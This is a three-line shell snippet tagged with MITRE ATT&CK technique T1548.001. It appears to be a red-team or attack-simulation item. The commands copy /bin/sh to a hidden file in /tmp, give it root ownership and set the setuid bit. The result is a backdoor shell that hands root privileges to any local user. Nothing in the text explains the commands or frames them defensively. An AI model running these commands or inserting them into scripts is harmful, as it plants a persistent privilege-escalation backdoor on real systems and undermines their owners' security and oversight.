# technique: T1548.001
# title: a shell that makes everybody root
cp /bin/sh /tmp/.rootsh
chown root /tmp/.rootsh
chmod u+s /tmp/.rootsh
